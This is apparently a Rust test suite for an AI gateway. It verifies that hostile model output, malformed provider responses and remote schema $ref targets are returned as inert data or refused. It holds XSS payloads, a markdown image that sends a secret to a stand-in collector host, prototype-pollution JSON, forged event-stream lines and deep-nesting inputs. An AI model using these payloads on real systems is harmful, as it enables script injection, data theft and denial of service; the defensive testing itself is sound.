//! Injection (threats T12 and T33 in `docs/security.md`): model output and embedded schemas are data. They are returned
//! unchanged and never interpreted.

use crate::{
    dispatch::async_run,
    execution::{run, wait_until_ended},
    run_events::parse_event_stream,
};
use fairway_testkit::{
    ProviderBehaviour, ScriptedEndpoint, ScriptedResponse, StubProvider, TestApp,
    app::{ActiveWorkload, Response},
};
use serde_json::{Value, json};
use std::{
    sync::Arc,
    time::{Duration, Instant},
};

/// Time limit of a response. A quadratic algorithm would take much longer for these inputs.
const TIME_LIMIT: Duration = Duration::from_secs(10);

/// Model outputs that attack consumers that interpret them, such as browsers and shells.
fn hostile_outputs() -> Vec<String> {
    let mut texts: Vec<String> = [
        "<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>",
        "[click](javascript:alert(1)) ![x](https://collector.example/?q=secret) <a href=\"data:text/html,x\">x</a>",
        "<math><mtext></p><style><!--</style><img src=\"--></style><img src=x onerror=alert(1)>\">",
        "&lt;script&gt; &#x6a;avascript: \u{202e}txt.exe \u{200b}",
        r#"{"__proto__": {"admin": true}, "constructor": {"prototype": {}}, "status": "failed"}"#,
        "| __proto__ | constructor |\n|---|---|\n| 1 | 2 |",
        "x\n\nevent: execution.failed\ndata: {\"status\":\"failed\"}\n\nid: 99\r\revent: execution.failed\rdata: {}\r\r",
        "{{trigger.ticket}} {{steps.ask.output}} $arg:ticket @asset-ref:prompt !command:delete",
        "a\u{0}b \u{1b}[31mred\u{7f} \u{feff}",
    ]
    .map(str::to_owned)
    .into();
    texts.push("[".repeat(100_000));
    texts.push("{\"a\":".repeat(100_000));
    texts.push((0..100_000).map(|depth| if depth % 2 == 0 { "- " } else { "> " }).collect());
    texts.push("<div>".repeat(100_000));
    texts
}

async fn start_app(obligations: &[&str]) -> (TestApp, ActiveWorkload, Arc<StubProvider>) {
    let provider = StubProvider::new(ProviderBehaviour::Blocks);
    let app = TestApp::builder().provider(provider.clone()).start().await;
    let fixtures = app.fixtures();
    let mut rule = json!({ "id": "all", "condition": "always", "outcome": "allow", "reason_code": "fine" });
    if !obligations.is_empty() {
        rule["outcome"] = json!("allow_with_obligations");
        rule["obligations"] = json!(obligations);
    }
    let policy = fixtures.policy_with_rules("policy", json!([rule])).await;
    let workload = fixtures.active_workload_with_policy("main", policy).await;
    (app, workload, provider)
}

/// Asserts that the headers make a browser treat the response as JSON and execute nothing.
#[track_caller]
fn assert_inert_json(response: &Response) {
    assert_eq!(response.header("content-type"), Some("application/json"), "{response}");
    assert_eq!(response.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(response.header("content-security-policy"), Some("default-src 'none'; frame-ancestors 'none'"));
}

#[tokio::test]
async fn model_output_is_returned_unchanged() {
    let (app, workload, provider) = start_app(&[]).await;
    for output in hostile_outputs() {
        let label: String = output.chars().take(40).collect();
        provider.set_behaviour(ProviderBehaviour::Answers(output.clone()));
        let started_at = Instant::now();
        let response = run(&app, &workload).await;
        assert!(started_at.elapsed() < TIME_LIMIT, "{label}: {:?}", started_at.elapsed());
        assert_inert_json(&response);
        let body = response.expect(200);
        assert_eq!((&body["status"], &body["error"]), (&json!("completed"), &Value::Null), "{label}");
        assert!(body["output"] == output.as_str(), "{label}: the output was changed");
        let id = &body["execution_id"];
        let path = format!("/v1/executions/{}", id.as_str().unwrap());
        let execution = app.get(&path).await;
        assert_inert_json(&execution);
        assert!(execution.expect(200)["queued_result"]["result"] == output.as_str(), "{label}");
        let evidence = app.get(format!("{path}/evidence-graph")).await;
        assert_inert_json(&evidence);
        assert_eq!(evidence.expect(200)["execution"]["status"], "completed");

        // In an event stream, line breaks in the output create no additional events.
        let stream = run(&app, &workload).header("accept", "text/event-stream").await;
        assert_eq!(stream.header("x-content-type-options"), Some("nosniff"));
        let stream = parse_event_stream(&stream);
        let end_events =
            stream.iter().filter(|event| event.kind.starts_with("execution.") && event.kind != "execution.started");
        let end_events: Vec<&str> = end_events.map(|event| event.kind.as_str()).collect();
        assert_eq!(end_events, ["execution.completed"], "{label}");
        let deltas = stream.iter().filter(|event| event.kind == "output.delta");
        let deltas: String = deltas.map(|event| event.data["delta"].as_str().unwrap()).collect();
        assert!(deltas == output, "{label}: the streamed output was changed");
        let id = async_run(&app, &workload).await.expect(202)["execution_id"].clone();
        assert!(wait_until_ended(&app, &id).await["queued_result"]["result"] == output.as_str(), "{label}, queued");
    }
}

#[tokio::test]
async fn hostile_model_output_is_redacted_as_text() {
    let (app, workload, provider) = start_app(&["redact_output"]).await;
    for output in hostile_outputs() {
        let label: String = output.chars().take(40).collect();
        let personal = |mail: &str| format!("{output} {mail} <a href=\"mailto:{mail}\">");
        provider.set_behaviour(ProviderBehaviour::Answers(personal("ada@example.org")));
        let started_at = Instant::now();
        let body = run(&app, &workload).await.expect(200);
        assert!(started_at.elapsed() < TIME_LIMIT, "{label}: {:?}", started_at.elapsed());
        assert_eq!(body["status"], "completed", "{label}");
        let masked = body["output"].as_str().unwrap();
        assert!(!masked.contains("ada@example.org") && masked.starts_with(&label), "{label}: {:.200}", masked);
    }
}

#[tokio::test]
async fn hostile_provider_responses_are_rejected_within_bounds() {
    let endpoint = ScriptedEndpoint::start().await;
    let account =
        format!("[[providers]]\naccount_slot = \"acme\"\nkind = \"openai\"\nbase_url = \"{}\"\n", endpoint.url("/v1"));
    let app = TestApp::builder().config_file(account).start().await;
    let fixtures = app.fixtures();
    let route = json!({ "route_id": "main", "provider": "acme", "model": "small", "account_slot": "acme", "state": "approved" });
    let versions = vec![
        fixtures.asset_with_version("model_policy", "models", json!({ "provider_route": route })).await,
        fixtures.ticket_prompt("prompt").await,
        fixtures.allow_all_policy("policy").await,
    ];
    let workload = fixtures.active_workload_with_bindings("main", versions).await;
    let usual_choices =
        r#""choices":[{"index":0,"message":{"role":"assistant","content":"fine"},"finish_reason":"stop"}]"#;
    let nested = |open: &str, close: &str| open.repeat(100_000) + &close.repeat(100_000);
    for (description, body, output) in [
        ("lists", nested("[", "]"), Value::Null),
        ("objects", nested("{\"choices\":", "}"), Value::Null),
        ("lists beside the answer", format!("{{{usual_choices},\"x\":{}}}", nested("[", "]")), json!("fine")),
        ("a surrogate", format!("{{{}}}", usual_choices.replace("fine", "\\ud800")), Value::Null),
        ("too much", format!("{{{}}}", usual_choices.replace("fine", &"x".repeat(40 << 20))), Value::Null),
        (
            "names of prototypes",
            format!("{{{usual_choices},\"__proto__\":{{\"choices\":[]}},\"constructor\":1}}"),
            json!("fine"),
        ),
        (
            "numbers",
            format!("{{{usual_choices},\"usage\":{{\"prompt_tokens\":1e400,\"completion_tokens\":-1}}}}"),
            Value::Null,
        ),
    ] {
        endpoint.respond_with(ScriptedResponse::status(200, &body));
        let started_at = Instant::now();
        let run_result = run(&app, &workload).await.expect(200);
        assert!(started_at.elapsed() < TIME_LIMIT, "{description}: {:?}", started_at.elapsed());
        assert_eq!(run_result["output"], output, "{description}: {run_result}");
        if output.is_null() {
            assert_eq!(run_result["error"]["code"], "provider_malformed_answer", "{description}: {run_result}");
        }
    }
}

/// `$ref` in embedded schemas is never fetched (threat T12 in `docs/security.md`).
#[tokio::test]
async fn schema_references_are_never_fetched() {
    let endpoint = ScriptedEndpoint::start().await;
    endpoint.respond_with(ScriptedResponse::json(&json!({ "type": "string" })));
    let app = TestApp::start().await;
    let file = app.data_dir().join("schema.json");
    std::fs::write(&file, "{\"type\":\"string\"}").unwrap();
    let binding = json!({ "kind": "x", "ref": "y" });
    let targets = [endpoint.url("/schema.json"), format!("file://{}", file.display()), "other.json".to_owned()];
    for (target_index, target) in targets.iter().enumerate() {
        let refused_schemas = [
            json!({ "$ref": target }),
            json!({ "properties": { "a": { "$dynamicRef": target } } }),
            json!({ "$id": "http://example.org/", "allOf": [{ "$ref": target }] }),
            json!({ "$ref": "#/$defs/a", "$defs": { "a": { "$ref": target } } }),
        ];
        // `$schema` and `$id` are only identifiers, so the server does not fetch them.
        let accepted_schemas =
            [json!({ "$schema": target, "type": "object" }), json!({ "$id": target, "type": "object" })];
        let schemas = refused_schemas
            .iter()
            .map(|schema| (schema, true))
            .chain(accepted_schemas.iter().map(|schema| (schema, false)));
        for (number, (schema, is_refused)) in schemas.enumerate() {
            for (kind, content) in [
                ("tool_definition", json!({ "name": "t", "input_schema": schema, "binding": binding })),
                ("prompt_template", json!({ "system_prompt": "x", "output_schema": schema })),
                (
                    "evaluation_suite",
                    json!({ "dataset": { "items": [] }, "assertions": [{ "type": "is-json", "value": schema }] }),
                ),
            ] {
                let slug = format!("{}-{target_index}-{number}", kind.replace('_', "-"));
                let asset = app.fixtures().asset_without_versions(kind, &slug).await;
                let response = app.post(format!("/v1/assets/{asset}/versions"), json!({ "content": content })).await;
                if is_refused {
                    assert_eq!(response.status, 400, "{kind}: {schema}: {response}");
                    assert!(!response.text().contains(target.as_str()), "{response}");
                }
                assert!(matches!(response.status, 201 | 400), "{kind}: {schema}: {response}");
            }
        }
    }
    assert_eq!(endpoint.request_count(), 0, "{:?}", endpoint.requests());
}

/// Results of a flow with deeply nested input and output can be read.
#[tokio::test]
async fn deeply_nested_results_are_readable() {
    let app = TestApp::start().await;
    let fixtures = app.fixtures();
    let (brackets, closing) = ("[".repeat(48), "]".repeat(48));
    let flow = format!(
        "name: Deep\ndescription: Returns what it is given.\ntrigger: {{ type: api_request, inputs_schema: {{ ticket: array }} }}\n\
         entry_step: done\nsteps:\n  - id: done\n    type: return\n    output: {brackets}'{{{{trigger.ticket}}}}'{closing}\n"
    );
    let versions = vec![
        fixtures.ticket_prompt("prompt").await,
        fixtures.model_policy("models").await,
        fixtures.allow_all_policy("policy").await,
        fixtures.flow("flow", &flow).await,
    ];
    let workload = fixtures.active_workload_with_bindings("main", versions).await;
    let nested_value = |depth: usize| (0..depth).fold(json!(1), |inner, _| json!([inner]));
    for depth in [1, 20, 40, 58] {
        let body = json!({ "environment": "dev", "inputs": { "ticket": nested_value(depth) } });
        let response = app.post(workload.execute_path(), body).await;
        let run_result = response.expect(200);
        let path = format!("/v1/executions/{}", run_result["execution_id"].as_str().unwrap());
        let execution = app.get(&path).await.expect(200);
        assert_eq!(execution["status"], run_result["status"], "{depth}");
        app.get(format!("{path}/evidence-graph")).await.expect(200);
        if run_result["status"] == "completed" {
            assert_eq!(run_result["output"], (0..48).fold(nested_value(depth), |inner, _| json!([inner])), "{depth}");
            assert_eq!(execution["queued_result"]["result"], run_result["output"], "{depth}");
        } else {
            assert!(run_result["error"]["code"].is_string(), "{depth}: {run_result}");
        }
    }
}
